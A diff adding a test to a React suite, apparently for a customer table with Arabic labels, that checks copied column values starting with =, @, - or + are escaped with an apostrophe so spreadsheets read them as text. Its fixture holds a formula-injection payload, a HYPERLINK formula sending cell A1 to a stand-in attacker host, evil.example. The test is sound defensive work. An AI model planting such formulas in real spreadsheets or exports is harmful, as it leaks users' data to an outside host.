@@ -1,4 +1,5 @@
 import { screen, waitFor, within } from '@testing-library/react';
+import { parse as parseDelimited } from 'papaparse';
 import { reloadPage } from '../../../lib/browser-location';
 import { ampereRecord } from '../../../test/ampere-fixtures';
 import { mockFetch, operator, type FakeRoute } from '../../../test/mock-fetch';
@@ -248,6 +249,35 @@ describe('copying a column', () => {
 
     expect(await navigator.clipboard.readText()).toBe('محمد علي\nفاطمة حداد');
     expect(await screen.findByText('تم نسخ العمود')).toBeInTheDocument();
+  });
+
+  it('copies what customers typed as data, numbers still numbers, as a spreadsheet would read the paste', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
+    const { user } = setup({}, [
+      ampereRecord({ customerNumber: 1000, name: hyperlink, box: '-عميل', address: '+961 3 123456' }),
+      ampereRecord({
+        customerNumber: 1001,
+        name: '@SUM(A1:A9)',
+        box: '12',
+        address: 'حي البركة',
+        amount: 50,
+      }),
+    ]);
+    await table();
+    const pasted = async (column: string) => {
+      await user.click(screen.getByRole('button', { name: `نسخ عمود ${column}` }));
+      const { data, errors } = parseDelimited<(string | number)[]>(await navigator.clipboard.readText(), {
+        delimiter: '\t',
+        dynamicTyping: true,
+      });
+      expect(errors).toEqual([]);
+      return data.flat();
+    };
+
+    expect(await pasted('الاسم')).toEqual([`'${hyperlink}`, "'@SUM(A1:A9)"]);
+    expect(await pasted('العلبة')).toEqual(["'-عميل", 12]);
+    expect(await pasted('العنوان')).toEqual(["'+961 3 123456", 'حي البركة']);
+    expect(await pasted('المبلغ')).toEqual([45, 50]);
   });
 
   it('says there is nothing to copy when the table is empty', async () => {
